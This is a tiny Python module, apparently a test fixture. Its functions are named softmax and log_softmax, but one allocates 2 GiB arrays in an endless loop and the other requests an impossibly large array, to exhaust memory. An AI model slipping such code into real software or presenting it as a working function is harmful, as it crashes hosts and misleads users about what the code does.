"""Allocates far more memory than the machine has."""
import numpy as np

_hoard = []


def softmax(x, axis=-1):
    while True:
        _hoard.append(np.ones(1 << 28))  # 2 GiB at a time, touched


def log_softmax(x, axis=-1):
    return np.empty(1 << 40)
